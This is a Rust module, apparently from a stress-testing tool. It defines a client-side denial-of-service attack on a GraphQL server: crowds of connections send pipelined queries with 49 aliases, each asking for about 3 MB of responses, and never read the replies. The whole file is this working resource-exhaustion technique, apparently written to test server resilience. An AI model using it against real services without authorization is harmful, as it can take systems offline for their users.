//! Clients that request long responses over HTTP/1.1 and do not read them.

use std::fmt::Write;

use crate::Aim;
use crate::attack::{Attack, Class};

/// The attack.
pub(super) const ATTACK: Attack = Attack::new(
    Class::Client,
    "clients that do not read",
    "answers of 3 MB that are not read, over HTTP/1.1",
    |aim| Box::pin(run(aim)),
);

const FIELDS: &str =
    "id code name category languages platforms popularity averageRating ratingCount isNew";

/// An operation with a long response, different for each number.
pub(super) fn long(number: u64) -> String {
    let mut query = String::from("{ ");
    let name = number % 100;
    for alias in 0..49 {
        let _ = write!(
            query,
            "a{name}_{alias}: umangServices(first: 100) {{ nodes {{ {FIELDS} }} edges {{ cursor node {{ {FIELDS} }} }} }} "
        );
    }
    query.push('}');
    crate::wire::operation(&query)
}

async fn run(aim: Aim) {
    let client = async |aim: Aim, number: u64| {
        let mut round = 0;
        while aim.goes_on(round) {
            let mut wire = aim.connect().await?;
            let request = wire.request(&long(number));
            // Pipelined requests are executed one after another.
            for _ in 0..4 {
                wire.send(&request).await?;
            }
            aim.until_end().await;
            round += 1;
        }
        Ok(())
    };
    aim.crowd(client).await;
}
